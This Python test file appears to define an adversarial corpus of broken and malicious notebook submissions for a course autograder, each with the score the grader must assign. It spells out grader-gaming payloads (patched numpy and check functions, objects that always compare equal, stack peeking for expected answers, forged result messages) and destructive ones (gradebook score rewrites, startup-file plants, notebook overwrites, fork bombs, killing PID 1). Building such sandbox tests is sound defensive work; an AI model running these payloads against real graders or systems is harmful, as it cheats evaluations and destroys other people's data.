"""An adversarial corpus: broken and malicious submissions of ``fixtures/corpus/01_guard``.

The chapter has two exercises, ``double`` (1 visible + 2 hidden points) and ``flip``
(1 + 1). Each case below is a submission and the score it must get: exactly what its
honest part earns. Most cases pair an attack with honest answers (5 points: the attack
must not cost them) or with blank ones (0: the attack must not earn anything).

A case's ``make`` takes the release notebook and the solution notebook (as JSON dicts)
and returns the submission as bytes, so that a case can also be invalid JSON.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass

HONEST_DOUBLE = "def double(x):\n    return 2 * x\n"
HONEST_FLIP = "def flip(X):\n    return X[::-1, ::-1]\n"
BLANK_DOUBLE = "def double(x):\n    raise NotImplementedError()\n"
BLANK_FLIP = "def flip(X):\n    raise NotImplementedError()\n"


@dataclass
class Case:
    name: str
    expected: float
    make: Callable[[dict, dict], bytes]
    why: str = ""


def _cells(nb):
    return nb["cells"]


def _by_id(nb, grade_id):
    for cell in _cells(nb):
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            return cell
    raise KeyError(grade_id)


def _code_cell(source):
    return {
        "cell_type": "code",
        "metadata": {},
        "source": source,
        "outputs": [],
        "execution_count": None,
    }


def answers(double=HONEST_DOUBLE, flip=HONEST_FLIP, extra_after=None, extra_first=None):
    """A submission with these solution-cell sources and optional extra code cells."""

    def make(release, solution):
        nb = copy.deepcopy(release)
        _by_id(nb, "double")["source"] = double
        _by_id(nb, "flip")["source"] = flip
        if extra_after is not None:
            index = _cells(nb).index(_by_id(nb, "flip")) + 1
            _cells(nb).insert(index, _code_cell(extra_after))
        if extra_first is not None:
            _cells(nb).insert(1, _code_cell(extra_first))
        return json.dumps(nb).encode()

    return make


def edited(change):
    """The honest submission, then ``change(nb)`` applied to its JSON."""

    def make(release, solution):
        nb = json.loads(answers()(release, solution))
        change(nb)
        return json.dumps(nb).encode()

    return make


def raw(data: bytes):
    return lambda release, solution: data


def _dup_test(nb):
    _cells(nb).append(copy.deepcopy(_by_id(nb, "double_visible")))


def _delete_locked(nb):
    nb["cells"] = [c for c in _cells(nb) if "import numpy" not in "".join(c["source"])]


def _edit_test(nb):
    _by_id(nb, "double_visible")["source"] = "print('all good')"


def _points(nb):
    _by_id(nb, "double_visible")["metadata"]["nbgrader"]["points"] = 100


def _grade_solution(nb):
    meta = _by_id(nb, "double")["metadata"]["nbgrader"]
    meta.update({"grade": True, "points": 50})


def _kernelspec(nb):
    nb["metadata"]["kernelspec"] = {"name": "evil", "display_name": "Evil", "language": "sh"}


def _rename_solution(nb):
    _by_id(nb, "double")["metadata"]["nbgrader"]["grade_id"] = "double_mine"


def _markdown_solution(nb):
    _by_id(nb, "flip")["cell_type"] = "markdown"


def _no_cells(nb):
    nb["cells"] = []


def _fake_outputs(nb):
    cell = _by_id(nb, "double_hidden")
    cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "passed"}]
    cell["source"] = "pass"


# Attacks in the student's own cells. Where a name below says "blank", the answers are
# stubs and the attack tries to turn them into points; "honest" answers must keep theirs.
INPUT_TRANSFORMER = """
ip = get_ipython()
ip.input_transformers_cleanup.append(lambda lines: ['pass\\n'])
"""
AST_TRANSFORMER = """
import ast
class Nothing(ast.NodeTransformer):
    def visit_Call(self, node):
        return ast.Constant(None)
get_ipython().ast_transformers.append(Nothing())
"""
SETTRACE = """
import sys
def tracer(frame, event, arg):
    if event == 'exception':
        frame.f_locals.clear()
    return tracer
sys.settrace(tracer)
"""
PATCH_NUMPY = """
import numpy as np
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
"""
PATCH_CHECKS = """
import cnnkit.checks as checks
for name in ('expect_array', 'expect_equal', 'expect_shape', 'call'):
    setattr(checks, name, lambda *a, **k: None)
class _Pass(Exception):
    pass
checks.CheckFailed = _Pass
"""
FAKE_AUTOGRADER = """
import os, sys
os.makedirs('fake/autograder/hidden', exist_ok=True)
for path in ('fake/autograder/__init__.py', 'fake/autograder/hidden/__init__.py'):
    open(path, 'w').write('')
open('fake/autograder/checks.py', 'w').write(
    'def __getattr__(n):\\n    return lambda *a, **k: None\\n'
)
sys.path.insert(0, 'fake')
"""
READ_SOLUTIONS = """
import glob
found = [p for p in glob.glob('/**/solutions/*.py', recursive=True)]
found += glob.glob('../../../solutions/*.py') + glob.glob('/work/*/solutions/*.py')
assert not found, found
"""
COPY_OTHER = """
import glob, json
others = glob.glob('../../*/01_guard/*.ipynb')
others += glob.glob('/**/submitted/**/*.ipynb', recursive=True)
assert not others, others
"""
WRITE_GRADEBOOK = """
import glob, sqlite3
for path in glob.glob('/**/gradebook.db', recursive=True) + ['../../../gradebook.db']:
    db = sqlite3.connect(path)
    db.execute("update grade set auto_score = 15000")
    db.commit()
"""
PTH_FILE = """
import site, sys
for d in site.getsitepackages() + [sys.prefix]:
    open(d + '/zzz_evil.pth', 'w').write('import os; os._exit(3)\\n')
"""
IPYTHON_STARTUP = """
import os
for home in (os.path.expanduser('~'), '/root'):
    d = os.path.join(home, '.ipython/profile_default/startup')
    os.makedirs(d, exist_ok=True)
    open(os.path.join(d, '00-evil.py'), 'w').write('import os; os._exit(4)\\n')
"""
MATPLOTLIBRC = """
import os
d = os.path.expanduser('~/.config/matplotlib')
os.makedirs(d, exist_ok=True)
open(os.path.join(d, 'matplotlibrc'), 'w').write('backend: evil\\n')
import matplotlib
open(os.path.join(matplotlib.get_data_path(), 'matplotlibrc'), 'a').write('backend: evil\\n')
"""
EDIT_COURSE_SOURCE = """
import cnnkit, os
path = os.path.join(os.path.dirname(cnnkit.__file__), 'checks.py')
open(path, 'a').write('\\nraise SystemExit\\n')
"""
EDIT_AUTOGRADER = """
import glob
for path in glob.glob('/**/autograder/checks.py', recursive=True):
    open(path, 'a').write('\\nraise SystemExit\\n')
"""
OVERWRITE_OTHERS = """
import glob
for path in glob.glob('/**/*.ipynb', recursive=True):
    open(path, 'w').write('{}')
"""
NETWORK = """
import socket
for host, port in [('127.0.0.1', PORT), ('localhost', PORT), ('8.8.8.8', 53)]:
    try:
        socket.create_connection((host, port), timeout=1).send(b'leak')
        raise SystemExit('network reachable')
    except OSError:
        pass
"""
DETECT_GRADING = """
import os
if os.environ.get('NBGRADER_EXECUTION'):
    import cnnkit.checks as checks
    checks.expect_equal = checks.expect_array = lambda *a, **k: None
"""
EXIT_IN_CELL = "import os\nos._exit(0)\n"
SEGFAULT_IN_CELL = "import ctypes\nctypes.string_at(0)\n"
EXIT_IN_FUNCTION = "def double(x):\n    import os\n    os._exit(1)\n"
SEGFAULT_IN_FUNCTION = "def double(x):\n    import ctypes\n    return ctypes.string_at(0)\n"
MEMORY_IN_FUNCTION = "def double(x):\n    import numpy as np\n    return np.ones(1 << 31).sum()\n"
MEMORY_IN_CELL = "hog = bytearray(3 << 30)\n"
LOOP_IN_CELL = "while True:\n    pass\n"
LOOP_IN_FUNCTION = "def double(x):\n    while True:\n        pass\n"
SLEEP_IN_FUNCTION = (
    "def double(x):\n    import signal, time\n"
    "    signal.signal(signal.SIGTERM, signal.SIG_IGN)\n    time.sleep(10**6)\n"
)
FORK_STORM = """
import os
children = 0
try:
    while True:
        if os.fork() == 0:
            import time
            time.sleep(3600)
        children += 1
except OSError:
    pass
"""
THREAD_STORM = """
import threading, time
threads = []
try:
    for _ in range(100_000):
        t = threading.Thread(target=time.sleep, args=(3600,), daemon=True)
        t.start()
        threads.append(t)
except RuntimeError:
    pass
"""
HUGE_OUTPUT = "print('x' * 50_000_000)\n"
PRINT_FOREVER = "while True:\n    print('spam' * 1000)\n"
FILL_DISK = """
with open('big.bin', 'wb') as fh:
    for _ in range(2048):
        fh.write(b'0' * (1 << 20))
"""
STDERR_DOUBLE = (
    "def double(x):\n    import sys, warnings\n"
    "    print('debug', file=sys.stderr)\n    warnings.warn('careful')\n    return 2 * x\n"
)
WARNING_FLIP = (
    "def flip(X):\n    import numpy as np\n    np.log(np.zeros(1))\n"
    "    np.float64(1) / 0\n    return X[::-1, ::-1]\n"
)
SYSTEM_EXIT_FUNCTION = "def double(x):\n    raise SystemExit(0)\n"
INTERRUPT_FUNCTION = "def double(x):\n    raise KeyboardInterrupt\n"
ALWAYS_EQUAL = (
    "class Anything:\n    def __eq__(self, other):\n        return True\n"
    "    __hash__ = None\n"
    "def double(x):\n    return Anything()\n"
)
ARRAY_SUBCLASS = (
    "import numpy as np\nclass Liar(np.ndarray):\n"
    "    def __eq__(self, other):\n        return np.ones(np.shape(other), bool)\n"
    "def flip(X):\n    return np.zeros_like(X).view(Liar)\n"
)
STACK_PEEK = (
    "def double(x):\n    import inspect\n"
    "    for f in inspect.stack():\n"
    "        for k, v in f.frame.f_locals.items():\n"
    "            if k in ('want', 'expected'):\n                return v\n"
    "    raise NotImplementedError\n"
)
PATCH_BUILTINS = (
    "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.len = lambda x: 0\n"
)
SYS_MODULES = "import sys, types\nsys.modules['numpy'] = types.ModuleType('numpy')\n"
KILL_INIT = """
import os, signal
for pid in (1, os.getppid()):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
"""
CHANNEL_GARBAGE = """
import os
for fd in range(3, 20):
    try:
        os.write(fd, b'\\xff' * 64)
    except OSError:
        pass
"""
CHANNEL_FORGE = """
import json, os, struct
message = json.dumps({"op": "result", "value": 42, "error": None}).encode()
for fd in range(3, 20):
    try:
        os.write(fd, struct.pack('>Q', len(message)) + message)
    except OSError:
        pass
"""
GLOBAL_OVERRIDE = "X_demo = np.zeros((2, 3))\n"
SLEEPY_VALUE = "def flip(X):\n    return X[::-1, ::-1].tolist()\n"  # a list is fine


def cases(port: int) -> list[Case]:
    honest, blank = 5, 0
    attack = lambda code, **kw: answers(extra_after=code, **kw)  # noqa: E731
    blank_attack = lambda code: answers(BLANK_DOUBLE, BLANK_FLIP, extra_first=code)  # noqa: E731
    return [
        # the submissions the grader must grade as they are
        Case("honest", honest, answers()),
        Case("blank", blank, answers(BLANK_DOUBLE, BLANK_FLIP)),
        Case("only_double", 3, answers(flip=BLANK_FLIP)),
        Case("list_result", honest, answers(flip=SLEEPY_VALUE)),
        # the kernel's verdict is not the judge's
        Case("input_transformer", blank, blank_attack(INPUT_TRANSFORMER)),
        Case("ast_transformer", blank, blank_attack(AST_TRANSFORMER)),
        Case("settrace", blank, blank_attack(SETTRACE)),
        Case(
            "patch_numpy_wrong_flip",
            3,
            answers(flip="def flip(X):\n    return X\n", extra_first=PATCH_NUMPY),
        ),
        Case("patch_checks", blank, blank_attack(PATCH_CHECKS)),
        Case("fake_autograder_module", blank, blank_attack(FAKE_AUTOGRADER)),
        Case("detects_nbgrader_execution", blank, blank_attack(DETECT_GRADING)),
        Case("patch_builtins", blank, blank_attack(PATCH_BUILTINS)),
        Case("sys_modules", blank, blank_attack(SYS_MODULES)),
        Case("always_equal_object", 2, answers(double=ALWAYS_EQUAL)),
        Case("array_subclass_liar", 3, answers(flip=ARRAY_SUBCLASS)),
        Case("stack_peek", 2, answers(double=STACK_PEEK)),
        Case("channel_forge", honest, attack(CHANNEL_FORGE)),
        Case("channel_garbage", honest, attack(CHANNEL_GARBAGE)),
        Case("fake_outputs_in_test_cell", honest, edited(_fake_outputs)),
        Case("fixture_override", honest, attack(GLOBAL_OVERRIDE)),
        # reading what is not theirs
        Case("read_solutions", blank, blank_attack(READ_SOLUTIONS)),
        Case("copy_other_submission", blank, blank_attack(COPY_OTHER)),
        Case("network", honest, attack(NETWORK.replace("PORT", str(port)))),
        # writes that would outlive the submission
        Case("write_gradebook", honest, attack(WRITE_GRADEBOOK)),
        Case("pth_file", honest, attack(PTH_FILE)),
        Case("ipython_startup", honest, attack(IPYTHON_STARTUP)),
        Case("matplotlibrc", honest, attack(MATPLOTLIBRC)),
        Case("edit_cnnkit", honest, attack(EDIT_COURSE_SOURCE)),
        Case("edit_autograder", honest, attack(EDIT_AUTOGRADER)),
        Case("overwrite_notebooks", honest, attack(OVERWRITE_OTHERS)),
        Case("fill_disk", honest, attack(FILL_DISK)),
        # a dying or runaway kernel costs only its own checks
        Case("exit_in_cell", 2, answers(double=HONEST_DOUBLE + EXIT_IN_CELL)),
        Case("segfault_in_cell", honest, attack(SEGFAULT_IN_CELL)),
        Case("exit_in_function", 2, answers(double=EXIT_IN_FUNCTION)),
        Case("segfault_in_function", 2, answers(double=SEGFAULT_IN_FUNCTION)),
        Case("memory_in_function", 2, answers(double=MEMORY_IN_FUNCTION)),
        Case("memory_in_cell", honest, attack(MEMORY_IN_CELL)),
        Case("loop_in_cell", honest, attack(LOOP_IN_CELL)),
        Case("loop_in_function", 2, answers(double=LOOP_IN_FUNCTION)),
        Case("sleep_ignoring_sigterm", 2, answers(double=SLEEP_IN_FUNCTION)),
        Case("fork_storm", honest, attack(FORK_STORM)),
        Case("thread_storm", honest, attack(THREAD_STORM)),
        Case("huge_output", honest, attack(HUGE_OUTPUT)),
        Case("print_forever", honest, attack(PRINT_FOREVER)),
        Case("kill_init", honest, attack(KILL_INIT)),
        Case("system_exit_in_function", 2, answers(double=SYSTEM_EXIT_FUNCTION)),
        Case("keyboard_interrupt_in_function", 2, answers(double=INTERRUPT_FUNCTION)),
        # noise from correct code is not a failure
        Case("stderr_and_warnings", honest, answers(double=STDERR_DOUBLE)),
        Case("runtime_warnings", honest, answers(flip=WARNING_FLIP)),
        # the notebook file itself
        Case("invalid_json", blank, raw(b'{"cells": [')),
        Case("empty_file", blank, raw(b"")),
        Case("truncated_json", blank, lambda r, s: answers()(r, s)[:300]),
        Case("not_a_notebook", blank, raw(b'["a", "list"]')),
        Case("no_cells", blank, edited(_no_cells)),
        Case("duplicated_test_cell", honest, edited(_dup_test)),
        Case("deleted_locked_cell", honest, edited(_delete_locked)),
        Case("edited_test_cell", honest, edited(_edit_test)),
        Case("tampered_points", honest, edited(_points)),
        Case("solution_marked_as_grade", honest, edited(_grade_solution)),
        Case("wrong_kernelspec", honest, edited(_kernelspec)),
        Case("renamed_solution_cell", honest, edited(_rename_solution)),
        Case("solution_cell_made_markdown", 3, edited(_markdown_solution)),
    ]
